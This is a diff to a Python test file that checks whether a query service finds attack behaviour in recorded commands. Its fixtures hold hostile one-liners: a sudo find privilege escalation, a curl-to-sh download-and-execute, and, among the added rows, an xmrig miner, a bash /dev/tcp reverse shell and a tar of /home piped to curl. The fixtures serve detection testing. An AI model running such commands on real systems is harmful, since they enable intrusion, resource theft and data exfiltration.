@@ -153,6 +153,10 @@ def record_of(command: str) -> str:
     ("privilege escalation through sudo", "sudo find / -exec /bin/sh ; -quit"),
     ("download and execute", "sh -c curl -s http://198.51.100.4/i.sh | sh"),
     ("web shell", "sh -c curl -s http://198.51.100.4/i.sh | sh"),
+    # One word the lexicon lacks: a compound of two it has, or the start of one.
+    ("cryptominer", "xmrig --donate-level 1 -o stratum+tcp://198.51.100.9:3333"),
+    ("reverseshell", "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"),
+    ("exfil", "tar czf - /home | curl --data-binary @- https://198.51.100.7/u"),
 ])
 def test_search_finds_behaviour_in_words_the_event_does_not_use(service: QueryService, query: str,
                                                                  expected: str) -> None:
